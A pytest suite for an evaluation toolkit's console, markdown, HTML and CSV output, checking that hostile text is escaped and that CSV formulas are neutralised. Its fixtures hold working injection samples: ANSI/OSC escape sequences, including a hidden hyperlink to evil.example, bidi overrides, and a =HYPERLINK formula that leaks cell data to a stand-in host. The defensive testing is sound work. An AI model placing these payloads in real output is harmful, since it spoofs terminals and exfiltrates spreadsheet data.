"""Console safety: text from trajectories, databases and judges never reaches a terminal,
a markdown page or a spreadsheet raw. ANSI/OSC escapes, CR and bidi overrides are shown escaped in
every table, markdown and CSV output; CSV cells that a spreadsheet would run as a formula are
neutralised. Each command and shape named in the issue has its own test, through the real CLI."""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

import evalkit.cli
from evalkit.present import Html, Markdown, Table, csv_cell, md_text, sanitize
from evalkit.trajectory.builders import a320_scenario, cmd, read, say, trajectory, write_jsonl

CLEAR = "\x1b[2J"  # erase the screen
OSC_TITLE = "\x1b]0;pwned\x07"  # set the window title
OSC_LINK = "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07"  # a hidden hyperlink
RLO = "\u202e"  # right-to-left override
RUN_ID = f"run-{CLEAR}{OSC_TITLE}-{RLO}fdp.exe"
MODEL = f"model\rFAKE{RLO}"
SCENARIO = f"scn-\x1b[31mred\x1b[0m-{RLO}"
ASSISTANT = f"I will {OSC_LINK} now\r\x9b2J"
RATIONALE = f"fine{CLEAR}\rALL GOOD{RLO}\u2066"
FORMULA_MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'

# Anything a terminal or a bidi renderer would act on. Line feeds separate output lines and are
# allowed between lines; every other C0 control (CR and tab included), DEL, C1 and bidi control is not.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def assert_inert(text: str) -> None:
    found = RAW.search(text)
    assert found is None, (
        f"raw control {found.group()!r} at {found.start()}: {text[max(0, found.start() - 40) : found.start() + 40]!r}"
    )


def invoke(*args: str):
    return CliRunner().invoke(evalkit.cli.cli, list(args), catch_exceptions=False)


def hostile_runs(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    scenario = a320_scenario(id=SCENARIO)
    records = trajectory(
        scenario,
        [say(ASSISTANT), read("get_ecam"), cmd("apu_gen", 0), cmd("bat_1", 0)],
        run_id=RUN_ID,
        model=MODEL,
        passed=False,
    )
    write_jsonl(directory / "hostile.jsonl", records)
    write_jsonl(
        directory / "formula.jsonl",
        trajectory(a320_scenario(), [read("get_ecam"), cmd("apu_gen", 0)], run_id="-2+3", model=FORMULA_MODEL),
    )
    return directory


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    return hostile_runs(tmp_path / "runs")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    from report_fixtures import add_judge_rows, score_into

    tmp = tmp_path_factory.mktemp("hostile")
    runs = hostile_runs(tmp / "runs")
    db = tmp / "hostile.db"
    score_into(db, [runs, Path(__file__).resolve().parent.parent / "examples" / "a320"])
    add_judge_rows(db, rationale_extra=RATIONALE)
    return db


# ---------------------------------------------------------------------------------------------
# the sanitizer and the kit


def test_sanitize_shows_c0_c1_and_bidi_controls_escaped():
    assert sanitize("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert sanitize("a\rb\tc\nd") == "a\\rb\\tc\\nd"
    assert sanitize("\x00\x7f\x85\x9b") == "\\x00\\x7f\\x85\\x9b"
    for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029":
        assert sanitize(f"x{ch}y") == f"x\\u{ord(ch):04x}y"
    assert sanitize("caf\u00e9 \u4e2d\u6587 \u03ba") == "caf\u00e9 \u4e2d\u6587 \u03ba"  # printable text untouched


def test_sanitize_escapes_lone_surrogates_that_cannot_be_printed():
    text = sanitize("bad \ud800 pair")
    assert text == "bad \\ud800 pair"
    text.encode("utf-8")  # would raise UnicodeEncodeError with the raw surrogate


def test_csv_cell_neutralises_formulas_but_keeps_numbers_numeric():
    assert csv_cell(FORMULA_MODEL) == "'" + FORMULA_MODEL
    for text in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert str(csv_cell(text)).startswith("'")
    assert csv_cell(-0.5) == -0.5 and csv_cell(-3) == -3  # numbers are numbers, never formulas
    assert csv_cell("-0.5") == "'-0.5"  # text that looks like a number is still text from the input
    assert csv_cell(None) == "" and csv_cell("plain") == "plain"
    assert csv_cell("a\x1b[2J") == "a\\x1b[2J"


def test_md_text_escapes_pipes_html_and_markdown_but_keeps_words_readable():
    assert md_text("a|b") == "a\\|b"
    assert md_text("<img src=x>") == "&lt;img src=x&gt;"
    assert md_text("[x](e) ![i](u)") == "\\[x\\](e) \\!\\[i\\](u)"
    assert md_text("[x](http://e) ![i](u)") == "`[x](http://e)` \\!\\[i\\](u)"  # a linkable word is code
    assert md_text("end_state") == "end_state"  # intraword _ never starts emphasis
    assert md_text("_x_") == "\\_x\\_"
    assert md_text("line one\nline two\tthree") == "line one line two three"
    assert md_text(f"x{CLEAR}{RLO}\ry") == "x\\\\x1b\\[2J\\\\u202e\\\\ry"


def test_table_emitters_share_one_model():
    t = Table(
        ["name", "value"],
        [["a|b", -0.5], [f"x{CLEAR}", None]],
        notes=[f"note {RLO}"],
        display=lambda v: "-" if v is None else str(v),
        numeric=[1],
    )
    text = "\n".join(t.text_lines())
    assert text.splitlines()[:2] == ["name      value", "--------  -----"]
    assert "x\\x1b[2J  -" in text and "note: note \\u202e" in text
    md = "\n".join(t.markdown_lines())
    assert "| a\\|b | -0.5 |" in md and md.endswith("- note \\\\u202e")
    rows = list(csv.reader(io.StringIO(t.to_csv())))
    assert rows == [["name", "value"], ["a|b", "-0.5"], ["x\\x1b[2J", ""]]
    html = t.to_html(cls="t")
    assert '<td class="num">-0.5</td>' in html and "<td>a|b</td>" in html
    assert RLO not in html and CLEAR not in html and "note \\u202e" in html  # escaped in the source too
    marked = Table(["c"], [[Html("<b>x</b>", "x")], [Markdown("**y**", "y")]])
    assert "<b>x</b>" in marked.to_html() and "&lt;b&gt;" not in marked.to_html()
    assert "| **y** |" in marked.markdown_lines() and "x" in marked.text_lines()[2]
    assert Table(["c"], empty="nothing").text_lines() == ["(nothing)"]


# ---------------------------------------------------------------------------------------------
# through every command


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
def test_score_output_shows_escapes_in_run_id_model_and_scenario(runs, fmt):
    res = invoke("score", str(runs), "--no-db", "--format", fmt)
    assert res.exit_code == 0, res.output
    assert_inert(res.stdout)
    assert "\\x1b" in res.stdout and "\\u202e" in res.stdout and "\\r" in res.stdout


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv"])
def test_score_aggregates_show_escapes(runs, fmt):
    res = invoke("score", str(runs), "--no-db", "--format", fmt, "--aggregate")
    assert res.exit_code == 0
    assert_inert(res.stdout)
    assert "\\u202e" in res.stdout


def test_score_csv_neutralises_a_hyperlink_formula_model_name(runs):
    res = invoke("score", str(runs), "--no-db", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    formula = next(r for r in rows if "HYPERLINK" in r["model"])
    assert formula["model"] == "'" + FORMULA_MODEL
    assert formula["run_id"] == "'-2+3"
    assert formula["coverage"] == "0.25"  # numeric columns stay numbers
    agg = list(
        csv.DictReader(io.StringIO(invoke("score", str(runs), "--no-db", "--format", "csv", "--aggregate").stdout))
    )
    assert all(not r["model"].startswith("=") for r in agg)


def test_score_warnings_on_stderr_are_sanitized(tmp_path, runs):
    (runs / f"dup{RLO}.jsonl").write_text((runs / "hostile.jsonl").read_text())
    res = invoke("score", str(runs), "--no-db", "--format", "json")
    assert "already read" in res.stderr
    assert_inert(res.stderr)


@pytest.mark.parametrize("fmt", ["table", "markdown"])
def test_audit_shows_escapes_in_rationale_run_id_and_model(hostile_db, fmt):
    res = invoke("audit", "--db", str(hostile_db), "--format", fmt, "--resamples", "0")
    assert res.exit_code == 0, res.output
    assert_inert(res.stdout)
    assert "x1b" in res.stdout and "u202e" in res.stdout


def test_audit_csv_keeps_negative_statistics_numeric(hostile_db, tmp_path):
    pairs = tmp_path / "pairs.csv"
    res = invoke("audit", "--db", str(hostile_db), "--format", "csv", "--resamples", "0", "--pairs-out", str(pairs))
    assert_inert(res.stdout)
    values = [r["value"] for r in csv.DictReader(io.StringIO(res.stdout))]
    assert any(v.startswith("-") for v in values)  # a negative kappa is a number, not a neutralised formula
    assert not any(v.startswith("'") for v in values)
    text = pairs.read_text()
    assert_inert(text)
    assert "\\u202e" in text


def test_report_markdown_shows_escapes(hostile_db):
    res = invoke("report", "--db", str(hostile_db), "--markdown", "-")
    assert res.exit_code == 0, res.output
    assert_inert(res.stdout)
    assert "\\\\x1b" in res.stdout and "\\\\u202e" in res.stdout  # the escape, itself escaped for markdown


def test_report_html_keeps_escaping_html(hostile_db, tmp_path):
    out = tmp_path / "r.html"
    invoke("report", "--db", str(hostile_db), "--html", str(out))
    page = out.read_text()
    assert FORMULA_MODEL not in page and html.escape(FORMULA_MODEL) in page


def test_judge_summary_and_table_show_escapes(tmp_path, runs):
    from fake_llm_server import FakeLLMServer

    (runs / f"broken{CLEAR}.jsonl").write_text('{"type": "meta"\n')
    config = tmp_path / "fast.toml"
    config.write_text("[retry]\nattempts = 1\ninitial_wait_s = 0.001\nmax_wait_s = 0.005\njitter_s = 0.001\n")
    with FakeLLMServer() as srv:
        for fmt in ("table", "markdown"):
            res = invoke(
                "judge",
                str(runs),
                "--db",
                str(tmp_path / f"j-{fmt}.db"),
                "--model",
                "openai/judge-a",
                "--api-base",
                srv.api_base,
                "--judge-config",
                str(config),
                "--format",
                fmt,
            )
            assert "broken" in res.stdout + res.stderr
            assert_inert(res.stdout)
            assert_inert(res.stderr)
            assert "\\u202e" in res.stdout
